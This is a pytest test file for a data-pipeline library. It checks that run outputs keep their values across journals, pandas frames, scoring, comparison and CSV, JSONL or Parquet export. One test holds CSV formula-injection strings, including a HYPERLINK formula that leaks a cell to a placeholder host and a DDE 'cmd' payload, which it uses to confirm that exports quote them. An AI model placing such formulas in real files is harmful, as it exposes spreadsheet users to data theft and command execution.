"""A run over a table gives exactly what the flow returned, wherever the results are read.

The tests read with the journal on and off, live and later, as rows, frames and files, and in scores and comparisons.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime
import decimal
import json
import math
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import agf_magics as agf
from agf_magics.journal.database.store import Store
from agf_magics.lifecycle.past.past_run import find_past_run
from agf_magics.settings.settings import current


@dataclasses.dataclass
class Weight:
    kg: int


@dataclasses.dataclass
class Locked:
    """A value that no pickle has."""

    lock: Any = dataclasses.field(default_factory=threading.Lock)


VALUES: dict[str, Any] = {
    "array": np.array([0.5, 1.5, 2.5]),
    "array of dates": np.array(["2024-03-01"], dtype="datetime64[ns]"),
    "matrix": np.eye(2),
    "set": {1, 2},
    "frame": pd.DataFrame({"a": [1, 2]}),
    "dict with number keys": {1: "a"},
    "decimal": decimal.Decimal("1.50"),
    "date": datetime.date(2024, 3, 1),
    "time": datetime.datetime(2024, 3, 1, 10, tzinfo=datetime.UTC),
    "duration": datetime.timedelta(minutes=90),
    "numpy date": np.datetime64("2024-03-01T10:00", "ns"),
    "numpy duration": np.timedelta64(90, "m"),
    "months": np.timedelta64(3, "M"),
    "NaT": np.datetime64("NaT"),
    "NaN": math.nan,
    "infinity": [1.0, math.inf],
    "dataclass": Weight(3),
    "bytes": b"ab",
    "half a character": "a\udcff",
    "columns": {"vec": np.arange(3), "n": 1},
    "large number": 2**53 + 1,
    "huge number": 10**40,
    "object": {"a": [1, None], "b": True},
    "empty": {},
    "text": "007",
    "null": None,
}

GIVE = "{pipeline: giving, steps: [{tool: {name: give, args: {which: !expr which}}}]}"


@pytest.fixture(autouse=True, params=["journal", "no journal"])
def folder(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """The working folder; with a journal, and without one."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    path = str(tmp_path / "runs.sqlite") if request.param == "journal" else None
    current.settings = replace(current.settings, journal=path)
    yield tmp_path
    Store.close_all()


def giving(values: dict[str, Any]) -> agf.Registry:
    registry = agf.Registry()

    @agf.tool(registry=registry)
    def give(which: str) -> Any:
        if which == "fails":
            raise LookupError("nothing")
        return values[which]

    agf.define(GIVE, registry=registry)
    return registry


def table_of(names: list[str], values: dict[str, Any] = VALUES) -> Any:
    """The table of a run that gives these values, one in each row."""
    return agf.run("giving", over=[{"which": name} for name in names], registry=giving(values)).table


def is_journaled() -> bool:
    return current.settings.journal is not None


def is_same(first: Any, second: Any) -> bool:
    if isinstance(first, pd.DataFrame):
        return isinstance(second, pd.DataFrame) and first.equals(second)
    if isinstance(first, np.ndarray):
        return type(second) is np.ndarray and first.dtype == second.dtype and first.tolist() == second.tolist()
    if isinstance(first, dict):
        return (
            type(second) is dict and first.keys() == second.keys() and all(is_same(first[n], second[n]) for n in first)
        )
    return type(first) is type(second) and bool(first == second or (first != first and second != second))


def output_of(row: Any) -> Any:
    cells = {name: value for name, value in row.items() if name not in ABOUT}
    return cells if set(cells) != {"output"} else cells["output"]


ABOUT = ("row", "which", "status", "error", "error_text", "seconds", "tokens", "cost")


@pytest.mark.parametrize("name", VALUES)
def test_a_row_has_the_value_that_the_flow_returned(name: str) -> None:
    table = table_of([name])
    tables = [table, find_past_run(table.run.run_id).table] if is_journaled() else [table]
    for one_table in tables:
        assert is_same(output_of(one_table[0]), VALUES[name])
        assert is_same(next(one_table.rows()).output, VALUES[name])
        outputs: list[Any] = []
        agf.score_over(one_table, lambda output, row, outputs=outputs: outputs.append(output))
        assert is_same(outputs[0], VALUES[name])
        assert table._repr_html_()
        frame = one_table.to_pandas()
        cells = {column: frame[column].iloc[0] for column in output_cells(name)}
        assert all(alike(cells[column], value) for column, value in output_cells(name).items())


def output_cells(name: str) -> dict[str, Any]:
    value = VALUES[name]
    has_columns = isinstance(value, dict) and value and all(isinstance(key, str) for key in value)
    return value if has_columns else {"output": value}


def alike(cell: Any, value: Any) -> bool:
    """Whether a cell of a frame has a value, perhaps in a type of pandas."""
    if value is None or name_is_nat(value):
        return cell is None or cell != cell
    if isinstance(value, np.ndarray | pd.DataFrame):
        return is_same(cell, value)
    return bool(cell == value or cell != cell)


def name_is_nat(value: Any) -> bool:
    return isinstance(value, np.datetime64) and bool(np.isnat(value))


REFUSED = "refused"

FORMS: dict[str, dict[str, Any]] = {
    # What a file has for a value: text of a CSV cell, value of a line of JSON, value in Parquet.
    "array": {"csv": "[0.5, 1.5, 2.5]", "jsonl": [0.5, 1.5, 2.5], "parquet": [0.5, 1.5, 2.5]},
    "array of dates": {
        "csv": '["2024-03-01T00:00:00.000000000"]',
        "jsonl": ["2024-03-01T00:00:00.000000000"],
        "parquet": [pd.Timestamp("2024-03-01")],
    },
    "matrix": {
        "csv": "[[1.0, 0.0], [0.0, 1.0]]",
        "jsonl": [[1.0, 0.0], [0.0, 1.0]],
        "parquet": [[1.0, 0.0], [0.0, 1.0]],
    },
    "set": {"csv": REFUSED, "jsonl": REFUSED, "parquet": REFUSED},
    "frame": {"csv": REFUSED, "jsonl": REFUSED, "parquet": REFUSED},
    "dict with number keys": {"csv": REFUSED, "jsonl": REFUSED, "parquet": REFUSED},
    "decimal": {"csv": "1.50", "jsonl": "1.50", "parquet": decimal.Decimal("1.50")},
    "date": {"csv": "2024-03-01", "jsonl": "2024-03-01", "parquet": datetime.date(2024, 3, 1)},
    "time": {
        "csv": "2024-03-01T10:00:00+00:00",
        "jsonl": "2024-03-01T10:00:00+00:00",
        "parquet": datetime.datetime(2024, 3, 1, 10, tzinfo=datetime.UTC),
    },
    "duration": {"csv": "PT1H30M", "jsonl": "PT1H30M", "parquet": datetime.timedelta(minutes=90)},
    "numpy date": {
        "csv": "2024-03-01T10:00:00.000000000",
        "jsonl": "2024-03-01T10:00:00.000000000",
        "parquet": pd.Timestamp("2024-03-01T10:00"),
    },
    "numpy duration": {"csv": "PT1H30M", "jsonl": "PT1H30M", "parquet": datetime.timedelta(minutes=90)},
    "months": {"csv": "P3M", "jsonl": "P3M", "parquet": REFUSED},
    "NaT": {"csv": "", "jsonl": None, "parquet": None},
    "NaN": {"csv": "", "jsonl": None, "parquet": math.nan},
    "infinity": {"csv": "[1.0, null]", "jsonl": [1.0, None], "parquet": [1.0, math.inf]},
    "dataclass": {"csv": REFUSED, "jsonl": REFUSED, "parquet": REFUSED},
    "bytes": {"csv": REFUSED, "jsonl": REFUSED, "parquet": b"ab"},
    "half a character": {"csv": REFUSED, "jsonl": "a\udcff", "parquet": REFUSED},
    "large number": {"csv": "9007199254740993", "jsonl": 2**53 + 1, "parquet": 2**53 + 1},
    "huge number": {"csv": str(10**40), "jsonl": 10**40, "parquet": str(10**40)},
    "empty": {"csv": "{}", "jsonl": {}, "parquet": "{}"},
    "text": {"csv": "007", "jsonl": "007", "parquet": "007"},
    "null": {"csv": "", "jsonl": None, "parquet": None},
}


def read_csv(path: Path) -> Any:
    with path.open(newline="") as file:
        names, *rows = csv.reader(file)
    return dict(zip(names, rows[-1], strict=True))["output"]


def read_jsonl(path: Path) -> Any:
    return json.loads(path.read_text().splitlines()[-1])["output"]


def read_parquet(path: Path) -> Any:
    import pyarrow.parquet as parquet

    return parquet.read_table(path)["output"].to_pylist()[-1]


READ: dict[str, Callable[[Path], Any]] = {"csv": read_csv, "jsonl": read_jsonl, "parquet": read_parquet}


@pytest.mark.parametrize("suffix", READ)
@pytest.mark.parametrize("name", FORMS)
def test_a_file_has_the_value_or_is_not_written(folder: Path, name: str, suffix: str) -> None:
    table, path = table_of([name]), folder / f"rows.{suffix}"
    expected = FORMS[name][suffix]
    if expected is REFUSED:
        with pytest.raises(agf.DefinitionError) as error:
            table.save(path)
        assert error.value.code == "over.cannot-hold"
        assert "row 0 'output'" in error.value.diagnostic.message
        assert not path.exists()
    else:
        value_read = READ[suffix](table.save(path))
        assert value_read == expected or (value_read != value_read and expected != expected)


@pytest.mark.parametrize("suffix", READ)
def test_a_file_that_is_refused_names_all_places(folder: Path, suffix: str) -> None:
    table = table_of(["text", "set", "fails", "frame"])
    with pytest.raises(agf.DefinitionError) as error:
        table.save(folder / f"rows.{suffix}")
    assert error.value.diagnostic.message.endswith(
        "cannot hold an opaque set, an opaque DataFrame: row 1 'output', row 3 'output'"
    )


def test_a_value_that_the_journal_does_not_hold_is_an_error_where_it_is_read(folder: Path) -> None:
    values = {"small": "a", "large": "x" * 11_000_000, "locked": Locked()}
    table = table_of(list(values), values)
    if not is_journaled():
        assert [row["output"] for row in table] == list(values.values())
        return
    for one_table in (table, find_past_run(table.run.run_id).table):
        assert one_table[0]["output"] == "a"
        assert [row["status"] for row in one_table] == ["ok"] * 3
        assert "xxx" in repr(one_table)  # a display shows a preview
        assert one_table[1]["output"] == values["large"]
        reads: list[Callable[[], Any]] = [
            lambda one_table=one_table: one_table[2]["output"],  # type: ignore[misc]
            lambda one_table=one_table: dict(one_table[2]),  # type: ignore[misc]
            lambda one_table=one_table: one_table.to_pandas(),  # type: ignore[misc]
            lambda one_table=one_table: one_table.to_polars(),  # type: ignore[misc]
            lambda one_table=one_table: one_table.to_arrow(),  # type: ignore[misc]
            *(lambda one_table=one_table, end=end: one_table.save(folder / f"rows.{end}") for end in READ),
        ]
        for read in reads:
            with pytest.raises(agf.DefinitionError) as error:
                read()
            assert error.value.code == "over.not-stored"
        assert "row 2 'output'" in error.value.diagnostic.message
        assert "row 1" not in error.value.diagnostic.message
        scores = agf.score_over(one_table, len)
        assert [scores["len"].rows, scores["len"].missing] == [2, 1]


def test_a_row_that_was_given_is_the_same_with_all_options() -> None:
    registry = giving(VALUES)
    run = agf.run(
        "giving",
        {"market": "Rome"},
        over=agf.Over(table=[{"name": "text", "x": 1}], map={"which": "name"}),
        registry=registry,
    )
    assert {name: value for name, value in run.table[0].items() if name not in ABOUT} == {
        "name": "text",
        "x": 1,
        "output": "007",
    }


def test_opaque_cells_that_were_given_are_read_again() -> None:
    image = np.arange(4)
    registry = agf.Registry()

    @agf.tool(registry=registry)
    def total(image: Any) -> int:
        return int(image.sum())

    agf.define("{pipeline: totals, steps: [{tool: {name: total, args: {image: !expr image}}}]}", registry=registry)
    run = agf.run("totals", over=[{"image": image}, {"image": image + 1}], registry=registry)
    tables = [run.table, find_past_run(run.run_id).table] if is_journaled() else [run.table]
    for table in tables:
        assert [row["image"].tolist() for row in table] == [[0, 1, 2, 3], [1, 2, 3, 4]]
        assert [row["output"] for row in table] == [6, 10]


COLUMNS: dict[str, tuple[list[Any], str]] = {
    "whole numbers": ([2**53 + 1, None], "Int64"),
    "whole numbers in each row": ([2**53 + 1, 1], "int64"),
    "large whole numbers": ([2**63, None], "UInt64"),
    "booleans": ([True, None], "boolean"),
    "numbers": ([1.5, None], "float64"),
    "both kinds of numbers": ([1, 1.5], "float64"),
    "a whole number that no float is": ([2**53 + 1, 0.5], "object"),
    "times": ([datetime.datetime(2024, 3, 1), None], "datetime64[us]"),
    "lists": ([[1], [2, 3]], "object"),
}


@pytest.mark.parametrize("name", COLUMNS)
def test_a_column_of_pandas_has_a_type_that_has_its_values(name: str) -> None:
    values, dtype = COLUMNS[name]
    names = [str(number) for number, value in enumerate(values) if value is not None]
    named = {str(number): value for number, value in enumerate(values)}
    frame = table_of(names if None not in values else [*names, "fails"], named).to_pandas()
    assert str(frame["output"].dtype) == dtype
    assert frame["output"].iloc[0] == values[0]
    if None in values:
        assert pd.isna(frame["output"].iloc[1])


def test_texts_that_a_spreadsheet_would_run_are_quoted_and_told(folder: Path) -> None:
    texts = {"a": '=HYPERLINK("http://x/?"&A1)', "b": "@SUM(1)", "c": "-1+cmd|' /C calc'!A0", "d": "\t=1", "e": "+1"}
    plain = {"f": "-5", "g": "a=b", "h": "-1.5e3"}
    table = table_of([*texts, *plain], texts | plain)
    with pytest.warns(UserWarning, match="row 0 'output', row 1 'output', row 2 'output', row 3 'output' as a formula"):
        path = table.save(folder / "rows.csv")
    with path.open(newline="") as file:
        cells = [row["output"] for row in csv.DictReader(file)]
    assert cells == [*(f"'{texts[name]}" for name in "abcd"), "+1", *plain.values()]
    assert json.loads(table.save(folder / "rows.jsonl").read_text().splitlines()[0])["output"] == texts["a"]


def test_a_judge_gets_the_value_that_the_flow_returned() -> None:
    registry = giving(VALUES)

    @agf.tool(registry=registry)
    def kind(value: Any) -> str:
        return type(value).__name__

    agf.define("{pipeline: judge, steps: [{tool: {name: kind, args: {value: !expr output}}}]}", registry=registry)
    run = agf.run("giving", over=[{"which": name} for name in ("date", "NaN", "set")], registry=registry)
    scores = agf.score_over(run, "judge", registry=registry)
    assert scores["judge"].labels == {"date": 1, "float": 1, "set": 1}


COMPARED: dict[str, tuple[Any, Any]] = {
    "set": ({1, 2}, {1, 3}),
    "frame": (pd.DataFrame({"a": [1, 2]}), pd.DataFrame({"a": [1, 3]})),
    "array": (np.arange(20), np.arange(20) + (np.arange(20) == 15)),
    "dict with number keys": ({1: "a"}, {1: "b"}),
    "bytes": (b"x" * 100, b"x" * 99 + b"y"),
    "object": ({"a": 1}, {"a": 2}),
    "kinds of number": (1, 1.0),
    "true and 1": (True, 1),
}


@pytest.mark.parametrize("name", COMPARED)
def test_rows_are_compared_by_their_values(name: str) -> None:
    first, other = COMPARED[name]
    one, two, three = (table_of(["v", "w"], {"v": value, "w": 1}) for value in (first, first, other))
    assert [row.key for row in agf.compare_over(one, three).changed] == [0]  # type: ignore[union-attr]
    assert agf.compare_over(one, two).changed == []  # type: ignore[union-attr]
    assert agf.compare_over(one, two).not_compared == []  # type: ignore[union-attr]


def test_rows_of_which_too_little_is_stored_are_not_compared(request: pytest.FixtureRequest) -> None:
    if "no journal" in request.node.name:
        pytest.skip("what two runs ran with is compared by their manifests")
    one, two = (table_of(["v", "w"], {"v": Locked(), "w": 1}) for _ in range(2))
    compared = agf.compare_over(one, two)
    assert compared.changed == []  # type: ignore[union-attr]
    assert [row.key for row in compared.not_compared] == [0]  # type: ignore[union-attr]
    assert "1 row not compared" in repr(compared)


LATE = [*({"kg": 1} for _ in range(1_200)), {"kg": 2, "from": "Spain"}]


def test_a_column_that_only_a_late_row_has_is_one_of_the_table(tmp_path: Path) -> None:
    lines = tmp_path / "rows.jsonl"
    lines.write_text("".join(json.dumps(row) + "\n" for row in LATE))
    for table in (LATE, lines):
        run = agf.run("{pipeline: late, steps: [{transform: {value: '{twice: ctx.kg * 2}'}}]}", over=table)
        assert run.table.to_pandas()["from"].dropna().tolist() == ["Spain"]
        run.table.save(tmp_path / "saved.csv")
        with (tmp_path / "saved.csv").open(newline="") as file:
            assert [row["from"] for row in csv.DictReader(file)][-2:] == ["", "Spain"]
